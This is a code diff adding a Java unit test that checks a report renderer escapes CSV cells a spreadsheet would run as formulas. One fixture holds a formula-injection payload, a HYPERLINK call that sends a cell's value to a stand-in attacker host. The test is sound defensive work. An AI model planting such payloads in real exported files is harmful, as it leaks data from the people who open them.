@@ -30,6 +30,19 @@ class ReportRendererTest {
     private final ReportRenderer renderer = new ReportRenderer(new ObjectMapper().registerModule(new JavaTimeModule()));
 
     @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() {
+        Report formulas = new Report("timeline", "Timeline", "General Assembly", Instant.parse("2017-05-01T00:00:00Z"),
+                Instant.parse("2026-01-01T00:00:00Z"),
+                List.of(), List.of(new Report.Section("Steps", List.of("No.", "Step"), List.of(
+                        List.of("1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+                        List.of("2", "+1"), List.of("3", "-1"), List.of("4", "@SUM(A1)"),
+                        List.of("5", "A plain = sign inside")))));
+        String csv = ReportRenderer.csv(formulas);
+        assertThat(csv).contains("\"'=HYPERLINK(", "'+1", "'-1", "'@SUM(A1)", "A plain = sign inside")
+                .doesNotContain(",=HYPERLINK", ",+1", ",@SUM");
+    }
+
+    @Test
     void csvQuotesWhatNeedsQuotingAndParsesBack() throws Exception {
         String csv = new String(renderer.render(REPORT, ReportFormat.CSV));
         List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
